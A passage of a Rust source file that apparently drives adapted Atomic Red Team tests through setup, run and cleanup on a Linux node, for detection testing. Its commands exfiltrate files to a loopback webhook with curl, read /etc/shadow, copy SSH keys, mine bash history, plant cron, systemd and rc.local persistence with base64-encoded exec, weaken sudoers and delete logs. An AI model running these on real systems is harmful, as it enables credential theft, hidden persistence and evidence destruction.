EXFIL_URL=$(echo "$OUTPUT" | curl -s -X POST --data-binary @- "http://$SINK/")
echo "Results exfiltrated to: $EXFIL_URL"
echo "--- Attacker sees ---"
curl -s "$EXFIL_URL""####,
        cleanup: "",
        restores: &[],
        note: "the paste service is the loopback sink",
    },
    Atomic {
        technique: "T1567.004",
        number: 2,
        guid: "40c44d16-bb49-4d14-aafa-f9ba7e6e6c5b",
        name: "Exfiltrate staged file to a Discord webhook with curl (bash)",
        class: Network,
        setup: "",
        run: r####"echo "secrets, api keys, passwords - T1567.004 atomic test" > "/tmp/T1567.004_loot.txt"
curl -s -F "file=@/tmp/T1567.004_loot.txt" "http://$SINK/api/webhooks/000000000000000000/ReplaceWithYourWebhookToken""####,
        cleanup: r####"rm -f "/tmp/T1567.004_loot.txt""####,
        restores: &["/tmp/T1567.004_loot.txt"],
        note: "the webhook is the loopback sink, not discord.com",
    },
    Atomic {
        technique: "T1046",
        number: 1,
        guid: "68e907da-2539-48f6-9fc9-257a78c05540",
        name: "Port Scan",
        class: Network,
        setup: "",
        run: r####"for port in {1..1024}; do (2>/dev/null echo >/dev/tcp/127.0.0.1/$port) && echo port $port is open ; done"####,
        cleanup: "",
        restores: &[],
        note: "127.0.0.1, ports 1-1024 (not 192.168.1.1, 1-65535)",
    },
    // --- files: credentials --------------------------------------------------
    Atomic {
        technique: "T1003.008",
        number: 1,
        guid: "3723ab77-c546-403c-8fb4-bb577033b235",
        name: "Access /etc/shadow (Local)",
        class: File,
        setup: "",
        run: r####"cat /etc/shadow > /tmp/T1003.008.txt
cat /tmp/T1003.008.txt > /dev/null"####,
        cleanup: "rm -f /tmp/T1003.008.txt",
        restores: &["/tmp/T1003.008.txt"],
        note: "without sudo; the copy is not printed",
    },
    Atomic {
        technique: "T1003.008",
        number: 4,
        guid: "df1a55ae-019d-4120-bc35-94f4bc5c4b0a",
        name: "Access /etc/{shadow,passwd,master.passwd} with a standard bin that's not cat",
        class: File,
        setup: "",
        run: r####"echo -e "e /etc/passwd\n,p\ne /etc/shadow\n,p\n" | ed > /tmp/T1003.008.txt"####,
        cleanup: "rm -f /tmp/T1003.008.txt",
        restores: &["/tmp/T1003.008.txt"],
        note: "the Linux branch",
    },
    Atomic {
        technique: "T1003.008",
        number: 5,
        guid: "f5aa6543-6cb2-4fae-b9c2-b96e14721713",
        name: "Access /etc/{shadow,passwd,master.passwd} with shell builtins",
        class: File,
        setup: "",
        run: r####"testcat(){ (while read line; do echo $line >> /tmp/T1003.008.txt; done < $1) }
testcat /etc/passwd
testcat /etc/shadow"####,
        cleanup: "rm -f /tmp/T1003.008.txt",
        restores: &["/tmp/T1003.008.txt"],
        note: "the Linux branch",
    },
    Atomic {
        technique: "T1552.004",
        number: 3,
        guid: "7c247dc7-5128-4643-907b-73a76d9135c3",
        name: "Copy Private SSH Keys with CP",
        class: File,
        setup: "mkdir -p /root/.ssh; [ -e /root/.ssh/id_rsa ] || echo 'not a real key' > /root/.ssh/id_rsa",
        run: r####"mkdir /tmp/art-staging
find /root -name id_rsa 2>/dev/null -exec cp --parents {} /tmp/art-staging \;
exit 0"####,
        cleanup: "rm -rf /tmp/art-staging",
        restores: &["/root/.ssh", "/root/.ssh/id_rsa", "/tmp/art-staging"],
        note: "searches /root, not /; setup places a dummy /root/.ssh/id_rsa when there is none",
    },
    Atomic {
        technique: "T1552.003",
        number: 1,
        guid: "3cfde62b-7c33-4b26-a61e-755d6131c8ce",
        name: "Search Through Bash History",
        class: File,
        setup: "echo 'ssh -p 22 admin@host' >> ~/.bash_history",
        run: r####"cat ~/.bash_history | grep -e '-p ' -e 'pass' -e 'ssh' > ~/loot.txt"####,
        cleanup: "",
        restores: &["/root/.bash_history", "/root/loot.txt"],
        note: "setup makes sure the history exists",
    },
    // --- files: persistence ---------------------------------------------------
    Atomic {
        technique: "T1098.004",
        number: 1,
        guid: "342cc723-127c-4d3a-8292-9c0c6b4ecadc",
        name: "Modify SSH Authorized Keys",
        class: File,
        setup: "mkdir -p /root/.ssh; [ -f /root/.ssh/authorized_keys ] || echo 'ssh-ed25519 AAAA placeholder' > /root/.ssh/authorized_keys",
        run: r####"if [ -f ~/.ssh/authorized_keys ]; then ssh_authorized_keys=$(cat ~/.ssh/authorized_keys); echo "$ssh_authorized_keys" > ~/.ssh/authorized_keys; fi;"####,
        cleanup: "unset ssh_authorized_keys",
        restores: &["/root/.ssh", "/root/.ssh/authorized_keys"],
        note: "setup makes sure the file exists (the atomic does nothing otherwise)",
    },
    Atomic {
        technique: "T1546.004",
        number: 1,
        guid: "94500ae1-7e31-47e3-886b-c328da46872f",
        name: "Add command to .bash_profile",
        class: File,
        setup: "",
        run: r####"echo 'echo "Hello from Atomic Red Team T1546.004" > /tmp/T1546.004' >> ~/.bash_profile"####,
        cleanup: "",
        restores: &["/root/.bash_profile"],
        note: "the harness restores the file instead of the atomic's head/mv",
    },
    Atomic {
        technique: "T1546.004",
        number: 2,
        guid: "0a898315-4cfa-4007-bafe-33a4646d115f",
        name: "Add command to .bashrc",
        class: File,
        setup: "",
        run: r####"echo 'echo "Hello from Atomic Red Team T1546.004" > /tmp/T1546.004' >> ~/.bashrc"####,
        cleanup: "",
        restores: &["/root/.bashrc"],
        note: "as above",
    },
    Atomic {
        technique: "T1546.004",
        number: 4,
        guid: "694b3cc8-6a78-4d35-9e74-0123d009e94b",
        name: "Append to the system shell profile",
        class: File,
        setup: "",
        run: "echo '# Hello from Atomic Red Team T1546.004' >> /etc/profile",
        cleanup: "",
        restores: &["/etc/profile"],
        note: "as above",
    },
    Atomic {
        technique: "T1546.004",
        number: 6,
        guid: "8fe2ccfd-f079-4c03-b1a9-bd9b362b67d4",
        name: "System shell profile scripts",
        class: File,
        setup: "",
        run: "echo '# Atomic Red Team was here... T1546.004' >> /etc/profile.d/bash_completion.sh",
        cleanup: "",
        restores: &["/etc/profile.d/bash_completion.sh"],
        note: "as above",
    },
    Atomic {
        technique: "T1053.003",
        number: 2,
        guid: "b7d42afa-9086-4c8a-b7b0-8ea3faa6ebb0",
        name: "Cron - Add script to all cron subfolders",
        class: File,
        setup: "mkdir -p /etc/cron.daily /etc/cron.hourly /etc/cron.monthly /etc/cron.weekly",
        run: r####"echo "echo 'Hello from Atomic Red Team' > /tmp/atomic.log" > /etc/cron.daily/persistevil
echo "echo 'Hello from Atomic Red Team' > /tmp/atomic.log" > /etc/cron.hourly/persistevil
echo "echo 'Hello from Atomic Red Team' > /tmp/atomic.log" > /etc/cron.monthly/persistevil
echo "echo 'Hello from Atomic Red Team' > /tmp/atomic.log" > /etc/cron.weekly/persistevil"####,
        cleanup: "rm /etc/cron.daily/persistevil -f; rm /etc/cron.hourly/persistevil -f; rm /etc/cron.monthly/persistevil -f; rm /etc/cron.weekly/persistevil -f",
        restores: &[
            "/etc/cron.daily",
            "/etc/cron.hourly",
            "/etc/cron.monthly",
            "/etc/cron.weekly",
            "/etc/cron.daily/persistevil",
            "/etc/cron.hourly/persistevil",
            "/etc/cron.monthly/persistevil",
            "/etc/cron.weekly/persistevil",
        ],
        note: "setup makes the folders a node without cron lacks",
    },
    Atomic {
        technique: "T1053.003",
        number: 3,
        guid: "078e69eb-d9fb-450e-b9d0-2e118217c846",
        name: "Cron - Add script to /etc/cron.d folder",
        class: File,
        setup: "mkdir -p /etc/cron.d",
        run: r####"echo "echo '*/5     *       *       *       *       root    echo \"Hello from Atomic Red Team\"' > /tmp/atomic.log" > /etc/cron.d/persistevil"####,
        cleanup: "rm /etc/cron.d/persistevil -f",
        restores: &["/etc/cron.d", "/etc/cron.d/persistevil"],
        note: "",
    },
    Atomic {
        technique: "T1053.003",
        number: 4,
        guid: "2d943c18-e74a-44bf-936f-25ade6cccab4",
        name: "Cron - Add script to /var/spool/cron/crontabs/ folder",
        class: File,
        setup: "mkdir -p /var/spool/cron/crontabs",
        run: r####"echo "echo 'Hello from Atomic Red Team' > /tmp/atomic.log" >> /var/spool/cron/crontabs/persistevil"####,
        cleanup: "rm /var/spool/cron/crontabs/persistevil -f",
        restores: &[
            "/var/spool/cron",
            "/var/spool/cron/crontabs",
            "/var/spool/cron/crontabs/persistevil",
        ],
        note: "setup makes the folder",
    },
    Atomic {
        technique: "T1053.006",
        number: 1,
        guid: "f4983098-bb13-44fb-9b2c-46149961807b",
        name: "Create Systemd Service and Timer",
        class: File,
        setup: "",
        run: r####"echo "[Unit]" > /etc/systemd/system/art-timer.service
echo "Description=Atomic Red Team Systemd Timer Service" >> /etc/systemd/system/art-timer.service
echo "[Service]" >> /etc/systemd/system/art-timer.service
echo "Type=simple" >> /etc/systemd/system/art-timer.service
echo "ExecStart=/bin/touch /tmp/art-systemd-timer-marker" >> /etc/systemd/system/art-timer.service
echo "[Install]" >> /etc/systemd/system/art-timer.service
echo "WantedBy=multi-user.target" >> /etc/systemd/system/art-timer.service
echo "[Unit]" > /etc/systemd/system/art-timer.timer
echo "Description=Executes Atomic Red Team Systemd Timer Service" >> /etc/systemd/system/art-timer.timer
echo "Requires=art-timer.service" >> /etc/systemd/system/art-timer.timer
echo "[Timer]" >> /etc/systemd/system/art-timer.timer
echo "Unit=art-timer.service" >> /etc/systemd/system/art-timer.timer
echo "OnCalendar=*-*-* *:*:00" >> /etc/systemd/system/art-timer.timer
echo "[Install]" >> /etc/systemd/system/art-timer.timer
echo "WantedBy=timers.target" >> /etc/systemd/system/art-timer.timer
systemctl start art-timer.timer
systemctl enable art-timer.timer
systemctl daemon-reload"####,
        cleanup: r####"systemctl stop art-timer.timer
systemctl disable art-timer.timer
rm /etc/systemd/system/art-timer.service
rm /etc/systemd/system/art-timer.timer
systemctl daemon-reload"####,
        restores: &[
            "/etc/systemd/system/art-timer.service",
            "/etc/systemd/system/art-timer.timer",
            "/etc/systemd/system/timers.target.wants/art-timer.timer",
        ],
        note: "",
    },
    Atomic {
        technique: "T1543.002",
        number: 1,
        guid: "d9e4f24f-aa67-4c6e-bcbf-85622b697a7c",
        name: "Create Systemd Service",
        class: File,
        setup: "",
        run: r####"echo "[Unit]" > /etc/systemd/system/art-systemd-service.service
echo "Description=Atomic Red Team Systemd Service" >> /etc/systemd/system/art-systemd-service.service
echo "" >> /etc/systemd/system/art-systemd-service.service
echo "[Service]" >> /etc/systemd/system/art-systemd-service.service
echo "Type=simple"
echo "ExecStart=/bin/touch /tmp/art-systemd-execstart-marker" >> /etc/systemd/system/art-systemd-service.service
echo "ExecStartPre=/bin/touch /tmp/art-systemd-execstartpre-marker" >> /etc/systemd/system/art-systemd-service.service
echo "ExecStartPost=/bin/touch /tmp/art-systemd-execstartpost-marker" >> /etc/systemd/system/art-systemd-service.service
echo "ExecReload=/bin/touch /tmp/art-systemd-execreload-marker" >> /etc/systemd/system/art-systemd-service.service
echo "ExecStop=/bin/touch /tmp/art-systemd-execstop-marker" >> /etc/systemd/system/art-systemd-service.service
echo "ExecStopPost=/bin/touch /tmp/art-systemd-execstoppost-marker" >> /etc/systemd/system/art-systemd-service.service
echo "" >> /etc/systemd/system/art-systemd-service.service
echo "[Install]" >> /etc/systemd/system/art-systemd-service.service
echo "WantedBy=default.target" >> /etc/systemd/system/art-systemd-service.service
systemctl daemon-reload
systemctl enable art-systemd-service.service
systemctl start art-systemd-service.service"####,
        cleanup: r####"systemctl stop art-systemd-service.service
systemctl disable art-systemd-service.service
rm -rf /etc/systemd/system/art-systemd-service.service
systemctl daemon-reload"####,
        restores: &[
            "/etc/systemd/system/art-systemd-service.service",
            "/etc/systemd/system/default.target.wants/art-systemd-service.service",
        ],
        note: "",
    },
    Atomic {
        technique: "T1543.002",
        number: 3,
        guid: "c35ac4a8-19de-43af-b9f8-755da7e89c89",
        name: "Create Systemd Service file, Enable the service, Modify and Reload the service.",
        class: File,
        setup: "",
        run: r####"echo "#!/bin/bash" > /etc/init.d/T1543.002
echo "### BEGIN INIT INFO" >> /etc/init.d/T1543.002
echo "# Provides : Atomic Test T1543.002" >> /etc/init.d/T1543.002
echo "# Required-Start: \$all" >> /etc/init.d/T1543.002
echo "# Required-Stop : " >> /etc/init.d/T1543.002
echo "# Default-Start: 2 3 4 5" >> /etc/init.d/T1543.002
echo "# Default-Stop: " >> /etc/init.d/T1543.002
echo "# Short Description: Atomic Test for Systemd Service Creation" >> /etc/init.d/T1543.002
echo "### END INIT INFO" >> /etc/init.d/T1543.002
echo "python3 -c \"import os, base64;exec(base64.b64decode('aW1wb3J0IG9zCm9zLnBvcGVuKCdlY2hvIGF0b21pYyB0ZXN0IGZvciBDcmVhdGluZyBTeXN0ZW1kIFNlcnZpY2UgVDE1NDMuMDAyID4gL3RtcC9UMTU0My4wMDIuc3lzdGVtZC5zZXJ2aWNlLmNyZWF0aW9uJykK')) \" " >> /etc/init.d/T1543.002
chmod +x /etc/init.d/T1543.002
systemctl enable T1543.002
systemctl start T1543.002
systemctl daemon-reload"####,
        cleanup: r####"systemctl stop T1543.002
systemctl disable T1543.002
rm -rf /etc/init.d/T1543.002
systemctl daemon-reload"####,
        restores: &["/etc/init.d/T1543.002"],
        note: "the update-rc.d/chkconfig branch and the second modification (tee -a) left out",
    },
    Atomic {
        technique: "T1037.004",
        number: 3,
        guid: "126f71af-e1c9-405c-94ef-26a47b16c102",
        name: "rc.local",
        class: File,
        setup: "",
        run: r####"filename='/etc/rc.local';if [ ! -f $filename ];then touch $filename;else cp $filename /etc/rc.local.original;fi
printf '#!/bin/bash' | tee /etc/rc.local
echo "\npython3 -c \"import os, base64;exec(base64.b64decode('aW1wb3J0IG9zCm9zLnBvcGVuKCdlY2hvIGF0b21pYyB0ZXN0IGZvciBtb2RpZnlpbmcgcmMubG9jYWwgPiAvdG1wL1QxMDM3LjAwNC5yYy5sb2NhbCcpCgo='))\"" | tee -a /etc/rc.local
printf 'exit 0' | tee -a /etc/rc.local
chmod +x /etc/rc.local"####,
        cleanup: "origfilename='/etc/rc.local.original';if [ ! -f $origfilename ];then rm /etc/rc.local;else cp $origfilename /etc/rc.local && rm $origfilename;fi",
        restores: &["/etc/rc.local", "/etc/rc.local.original"],
        note: "without sudo; the FreeBSD branch left out",
    },
    Atomic {
        technique: "T1548.003",
        number: 3,
        guid: "a7b17659-dd5e-46f7-b7d1-e6792c91d0bc",
        name: "Unlimited sudo cache timeout",
        class: File,
        setup: "[ -e /etc/sudoers ] || printf 'Defaults\\tenv_reset\\n' > /etc/sudoers",
        run: r####"sed -i 's/env_reset.*$/env_reset,timestamp_timeout=-1/' /etc/sudoers
visudo -c -f /etc/sudoers"####,
        cleanup: "",
        restores: &["/etc/sudoers"],
        note: "without sudo; setup writes a one-line /etc/sudoers where sudo is not installed; visudo may be missing",
    },
    Atomic {
        technique: "T1548.003",
        number: 5,
        guid: "91a60b03-fb75-4d24-a42e-2eb8956e8de1",
        name: "Disable tty_tickets for sudo caching",
        class: File,
        setup: "[ -e /etc/sudoers ] || printf 'Defaults\\tenv_reset\\n' > /etc/sudoers",
        run: r####"sh -c "echo Defaults "'!'"tty_tickets >> /etc/sudoers"
visudo -c -f /etc/sudoers"####,
        cleanup: "",
        restores: &["/etc/sudoers"],
        note: "as above",
    },
    Atomic {
        technique: "T1574.006",
        number: 1,
        guid: "39cb0e67-dd0d-4b74-a74b-c072db7ae991",
        name: "Shared Library Injection via /etc/ld.so.preload",
        class: File,
        setup: "",
        run: "sh -c 'echo \" \" >> /etc/ld.so.preload'",
        cleanup: "",
        restores: &["/etc/ld.so.preload"],
        note: "appends a blank line, not a library path: a path to a library that does not exist would make every program on the machine print a loader warning until the cleanup",
    },
    Atomic {
        technique: "T1685.006",
        number: 20,
        guid: "d304b2dc-90b4-4465-a650-16ddd503f7b5",
        name: "Overwrite Linux Log",
        class: File,
        setup: "",
        run: "echo 0> /var/log/secure",
        cleanup: r####"if [ "/var/log/secure" != "/var/log/secure" ] ; then rm -f /var/log/secure ; fi"####,
        restores: &["/var/log/secure"],
        note: "",
    },
    Atomic {
        technique: "T1685.006",
        number: 2,
        guid: "bd8ccc45-d632-481e-b7cf-c467627d68f9",
        name: "rm -rf",
        class: File,
        setup: "[ -e /var/log/messages ] || echo atomic > /var/log/messages; [ -e /var/log/security ] || echo atomic > /var/log/security",
        run: r####"rm -rf /var/log/messages
rm -rf /var/log/security"####,
        cleanup: "",
        restores: &["/var/log/messages", "/var/log/security"],
        note: "setup makes sure the logs exist; the harness restores them",
    },
];
